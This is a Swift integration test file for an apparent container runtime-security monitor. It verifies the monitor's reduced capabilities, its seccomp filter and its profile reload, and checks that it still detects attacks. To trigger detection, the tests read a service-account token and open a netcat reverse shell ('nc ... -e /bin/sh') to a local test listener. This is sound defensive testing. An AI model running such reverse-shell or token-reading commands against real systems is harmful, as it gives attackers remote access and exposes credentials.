// SPDX-License-Identifier: Apache-2.0
// The "must show" of self-hardening, live: the real `runtime-watch run` binary, after start-up, holds
// only CAP_DAC_READ_SEARCH, CAP_SYS_PTRACE and CAP_AUDIT_CONTROL on every thread, runs under a
// seccomp filter (Seccomp: 2) with no_new_privs, and still detects a token read and a reverse shell
// in a runc container, still reloads its profile on SIGHUP, and reports (log line + internal alert)
// a syscall outside its filter reached through the test-only trigger RW_TEST_FORBIDDEN_SYSCALL.
// Every test also checks that nothing but the trigger was refused (the allowlist covers the activity).

import Foundation
import Glibc
import RuntimeWatchSystem
import XCTest

/// One network pair, one runc container in namespace B with a kubelet-style token volume bound at
/// the in-pod path, and one hardened monitor watching both. Built once for the class.
final class HardeningLiveScene {
    static let secretsDir = "/var/run/secrets/kubernetes.io/serviceaccount"
    static let namespace = "rw-e2e-harden"
    /// The trigger fires this long after hardening (well after the monitor logs "monitoring").
    static let triggerDelayMilliseconds = 3000
    let scratch: TemporaryDirectory
    let network: TestNetwork
    let container: RuncContainer
    let monitor: MonitorProcess
    let profilePath: String

    init() throws {
        let binary = try runtimeWatchBinary()
        let scratch = try TemporaryDirectory(prefix: "rw-harden")
        var kubeletRoot = ""
        let scene: NetworkedContainer
        do {
            scene = try NetworkedContainer.start(namespace: Self.namespace) { container, configuration in
                let volume = try FakeKubeletVolume(kubeletRoot: scratch.at("kubelet"), podUID: container.podUID)
                kubeletRoot = volume.kubeletRoot
                configuration.binds = [BindMount(hostPath: volume.volumeDir, containerPath: Self.secretsDir)]
            }
        } catch {
            scratch.remove()
            throw error
        }
        do {
            profilePath = try scratch.write(Self.profile(allowingTail: false), to: "harden-profile.yaml")
            monitor = try MonitorProcess(binary: binary, kubeletRoot: kubeletRoot, scratch: scratch, profiles: [profilePath],
                                         maxSeconds: 600, extraArguments: ["--log-level", "info"],
                                         environment: ["RW_TEST_FORBIDDEN_SYSCALL": String(Self.triggerDelayMilliseconds)])
            self.network = scene.network
            self.container = scene.container
            self.scratch = scratch
        } catch {
            scene.stop()
            scratch.remove()
            throw error
        }
    }

    /// The test profile: folding off; with `allowingTail`, `/usr/bin/tail` may read the token here.
    static func profile(allowingTail: Bool) -> String {
        var text = "version: 1\nsettings:\n  fold_window_seconds: 0\n"
        if allowingTail {
            text += """
                allow:
                  - rules: [service-account-token-read]
                    namespace: \(namespace)
                    executable: /usr/bin/tail
                    reason: "hardening test: allowed after SIGHUP"

                """
        }
        return text
    }

    func tearDown() {
        monitor.stop()
        container.stop()
        network.teardown()
        scratch.remove()
    }

    /// Runs `argv` in the container and returns its host pid once it exited.
    func runToCompletion(_ argv: [String]) throws -> Int32 {
        let pid = try container.execDetached(argv, outputPath: scratch.at("run-\(RuncContainer.randomHex(bytes: 4)).out"))
        guard waitForProcessEnd(pid) else { throw HarnessError("\(argv) (pid \(pid)) still running after 15 s") }
        return pid
    }

    /// The "seccomp refused syscall X" lines of the monitor's log.
    var refusalLines: [String] {
        monitor.log.split(separator: "\n").map(String.init).filter { $0.contains("seccomp refused syscall") }
    }
}

final class HardeningLiveTests: XCTestCase {
    nonisolated(unsafe) private static var scene: HardeningLiveScene?

    /// CAP_DAC_READ_SEARCH (2), CAP_SYS_PTRACE (19), CAP_AUDIT_CONTROL (30).
    static let expectedCapabilities: UInt64 = 1 << 2 | 1 << 19 | 1 << 30

    override func setUpWithError() throws {
        try requireRoot("hardening live tests")
        try requireTools([(RuncContainer.runc, "runc"), (BusyboxRootfs.busybox, "busybox-static"),
                          (NetnsListener.python, "python3"), (TestNetwork.ip, "iproute2")])
        if Self.scene == nil { Self.scene = try HardeningLiveScene() }
    }

    override class func tearDown() {
        scene?.tearDown()
        scene = nil
        super.tearDown()
    }

    private var scene: HardeningLiveScene {
        get throws {
            guard let scene = Self.scene else { throw HarnessError("hardening scene not started") }
            return scene
        }
    }

    func testEveryThreadHoldsOnlyTheSteadyStateCapabilitiesUnderSeccompWithNoNewPrivs() throws {
        let scene = try self.scene
        let pid = scene.monitor.process.processIdentifier
        let status = ThreadCapabilityStatus(parsing: try String(contentsOfFile: "/proc/\(pid)/status", encoding: .utf8))
        XCTAssertEqual(CapabilitySet(mask: status.effective).description, "CAP_DAC_READ_SEARCH CAP_SYS_PTRACE CAP_AUDIT_CONTROL")
        XCTAssertEqual(status.effective, Self.expectedCapabilities, "CapEff")
        XCTAssertEqual(status.permitted, Self.expectedCapabilities, "CapPrm")
        XCTAssertEqual(status.bounding, Self.expectedCapabilities, "CapBnd")
        XCTAssertEqual(status.inheritable, 0, "CapInh")
        XCTAssertEqual(status.ambient, 0, "CapAmb")
        XCTAssertEqual(status.seccompMode, 2, "Seccomp: 2 (filter)")
        XCTAssertEqual(status.noNewPrivileges, true, "NoNewPrivs: 1")

        let tasks = try FileManager.default.contentsOfDirectory(atPath: "/proc/\(pid)/task")
        XCTAssertGreaterThan(tasks.count, 3, "the monitor runs several threads")
        for tid in tasks {
            guard let text = try? String(contentsOfFile: "/proc/\(pid)/task/\(tid)/status", encoding: .utf8) else { continue }
            let thread = ThreadCapabilityStatus(parsing: text)
            let name = (try? String(contentsOfFile: "/proc/\(pid)/task/\(tid)/comm", encoding: .utf8))?.trimmingCharacters(in: .whitespacesAndNewlines) ?? "?"
            XCTAssertEqual(thread.effective, Self.expectedCapabilities, "thread \(tid) (\(name)) CapEff \(CapabilitySet(mask: thread.effective))")
            XCTAssertEqual(thread.bounding, Self.expectedCapabilities, "thread \(tid) (\(name)) CapBnd")
            XCTAssertEqual(thread.seccompMode, 2, "thread \(tid) (\(name)) Seccomp")
            XCTAssertEqual(thread.noNewPrivileges, true, "thread \(tid) (\(name)) NoNewPrivs")
        }
        XCTAssertTrue(scene.monitor.log.contains("hardened: kept CAP_DAC_READ_SEARCH,CAP_SYS_PTRACE,CAP_AUDIT_CONTROL"), scene.monitor.log)
        print("hardened monitor pid \(pid): \(tasks.count) threads, CapEff=\(CapabilitySet(mask: status.effective)), Seccomp=\(status.seccompMode ?? -1), NoNewPrivs=\(status.noNewPrivileges ?? false)")
    }

    func testSyscallOutsideTheFilterIsRefusedWithEPERMAndReported() throws {
        let scene = try self.scene
        let reported = waitUntil(timeout: .seconds(20)) {
            scene.monitor.log.contains("test trigger (RW_TEST_FORBIDDEN_SYSCALL)") && !scene.refusalLines.isEmpty
        }
        XCTAssertTrue(reported, "no trigger outcome or refusal in the log:\n\(scene.monitor.log)")
        XCTAssertTrue(scene.monitor.log.contains("unshare(0) failed: Operation not permitted (errno 1)"),
                      "the caller must see EPERM:\n\(scene.monitor.log)")
        XCTAssertTrue(scene.refusalLines.contains { $0.contains("seccomp refused syscall unshare") }, "\(scene.refusalLines)")
        let alerts = try scene.monitor.waitForAlerts(timeout: .seconds(5)) { $0.contains { $0.ruleID == "internal-syscall-refused" } }
        let refused = alerts.filter { $0.ruleID == "internal-syscall-refused" }
        XCTAssertEqual(refused.map { $0.string("syscall.type") }, ["unshare"], "\(refused)")
        XCTAssertEqual(refused.first?.raw["source"] as? String, "internal")
        XCTAssertEqual(refused.first?.pid, scene.monitor.process.processIdentifier)
        print("refusal reported: \(scene.refusalLines)")
    }

    func testHardenedMonitorStillDetectsATokenRead() throws {
        let scene = try self.scene
        let pid = try scene.runToCompletion(["/bin/head", "-c", "1", HardeningLiveScene.secretsDir + "/token"])
        let alerts = try scene.monitor.waitForAlerts(timeout: .seconds(15)) { $0.contains { $0.isTokenRead && $0.pid == pid } }
        let mine = alerts.filter { $0.isTokenRead && $0.pid == pid }
        XCTAssertEqual(mine.count, 1, "token read by pid \(pid): \(mine)\nlog:\n\(scene.monitor.log.suffix(2000))")
        XCTAssertEqual(mine.first?.containerID, String(scene.container.id.prefix(12)))
        // Capabilities of the reader, by name (libcap, injected into the engine by the CLI).
        let names = mine.first?.string("thread.cap_effective")?.split(separator: " ") ?? []
        XCTAssertFalse(names.isEmpty, "thread.cap_effective: \(mine.first?.raw ?? [:])")
        XCTAssertTrue(names.allSatisfy { $0.hasPrefix("CAP_") && $0.dropFirst(4).allSatisfy { $0.isUppercase || $0 == "_" } }, "\(names)")
        assertOnlyTheTriggerWasRefused(scene)
    }

    /// fanotify_mark after hardening (no CAP_SYS_ADMIN any more): a pod volume created now is found
    /// by the 2 s rescan and marked, and a read of its token alerts.
    func testTokenVolumeCreatedAfterHardeningIsMarkedByTheRescan() throws {
        let scene = try self.scene
        let volume = try FakeKubeletVolume(kubeletRoot: scene.scratch.at("kubelet"), podUID: UUID().uuidString.lowercased(),
                                           volume: "kube-api-access-late")
        var found = false
        // Read until the rescan (every 2 s) has marked the new file; bounded to 10 tries over ~10 s.
        for _ in 0..<10 {
            Thread.sleep(forTimeInterval: 1)
            let result = try CommandRunner.run(["/bin/cat", volume.tokenPath])
            XCTAssertEqual(result.status, 0, "\(result)")
            let alerts = try scene.monitor.waitForAlerts(timeout: .seconds(2)) { $0.contains { $0.isTokenRead && $0.string("fd.name")?.contains("kube-api-access-late") == true } }
            found = alerts.contains { $0.isTokenRead && $0.string("fd.name")?.contains("kube-api-access-late") == true }
            if found { break }
        }
        XCTAssertTrue(found, "no token-read alert for a volume created after hardening:\n\(scene.monitor.log.suffix(2000))")
        XCTAssertFalse(scene.monitor.log.contains("fanotify_mark: Operation not permitted"), scene.monitor.log)
        assertOnlyTheTriggerWasRefused(scene)
    }

    func testHardenedMonitorStillDetectsAReverseShell() throws {
        let scene = try self.scene
        let listener = try scene.network.startListener(sending: "id", timeout: .seconds(10))
        let port = Int(listener.port)
        try scene.container.execDetached(["nc", TestNetwork.addressA, "\(port)", "-e", "/bin/sh"], outputPath: scene.scratch.at("nc-\(port).out"))
        let result = try listener.result()
        XCTAssertTrue(result.received.contains("uid=0(root)"), "the shell answered `id`: \(result.received.debugDescription)")
        let alerts = try scene.monitor.waitForAlerts(timeout: .seconds(10)) { $0.contains { $0.ruleID == "reverse-shell" && $0.remotePort == port } }
        let mine = alerts.filter { $0.ruleID == "reverse-shell" && $0.remotePort == port }
        XCTAssertEqual(mine.count, 1, "reverse-shell alerts for port \(port): \(mine.map(\.reverseShellSummary))\nlog:\n\(scene.monitor.log.suffix(2000))")
        XCTAssertEqual(mine.first?.containerID, String(scene.container.id.prefix(12)))
        XCTAssertEqual(mine.first?.remoteAddress, TestNetwork.addressA)
        assertOnlyTheTriggerWasRefused(scene)
    }

    func testHardenedMonitorReloadsItsProfileOnSIGHUP() throws {
        let scene = try self.scene
        let token = HardeningLiveScene.secretsDir + "/token"
        // Before the reload, tail is not allowed: its read alerts.
        let before = try scene.runToCompletion(["/usr/bin/tail", token])
        _ = try scene.monitor.waitForAlerts(timeout: .seconds(15)) { $0.contains { $0.isTokenRead && $0.pid == before } }
        XCTAssertTrue(try scene.monitor.alerts().contains { $0.isTokenRead && $0.pid == before }, "tail alerted before the reload")

        let reloadsBefore = scene.monitor.log.components(separatedBy: "profile reloaded:").count
        try HardeningLiveScene.profile(allowingTail: true).write(toFile: scene.profilePath, atomically: true, encoding: .utf8)
        XCTAssertEqual(kill(scene.monitor.process.processIdentifier, SIGHUP), 0)
        XCTAssertTrue(waitUntil(timeout: .seconds(10)) { scene.monitor.log.components(separatedBy: "profile reloaded:").count > reloadsBefore },
                      "no 'profile reloaded' after SIGHUP:\n\(scene.monitor.log.suffix(2000))")
        XCTAssertFalse(scene.monitor.log.contains("profile reload refused"), scene.monitor.log)

        // After it, tail is allowed; a later tac read is the barrier proving the events were processed.
        let after = try scene.runToCompletion(["/usr/bin/tail", token])
        let barrier = try scene.runToCompletion(["/usr/bin/tac", token])
        _ = try scene.monitor.waitForAlerts(timeout: .seconds(15)) { $0.contains { $0.isTokenRead && $0.pid == barrier } }
        usleep(500_000)
        let alerts = try scene.monitor.alerts()
        XCTAssertTrue(alerts.contains { $0.isTokenRead && $0.pid == barrier }, "the barrier read alerted")
        XCTAssertFalse(alerts.contains { $0.isTokenRead && $0.pid == after }, "tail (pid \(after)) alerted after the reload allowed it")
        assertOnlyTheTriggerWasRefused(scene)
    }

    /// The activity so far needed no syscall outside the allowlist: only the trigger's unshare.
    private func assertOnlyTheTriggerWasRefused(_ scene: HardeningLiveScene, file: StaticString = #filePath, line: UInt = #line) {
        let others = scene.refusalLines.filter { !$0.contains("seccomp refused syscall unshare") }
        XCTAssertEqual(others, [], "syscalls refused during normal activity (missing from SeccompPolicy)", file: file, line: line)
    }
}
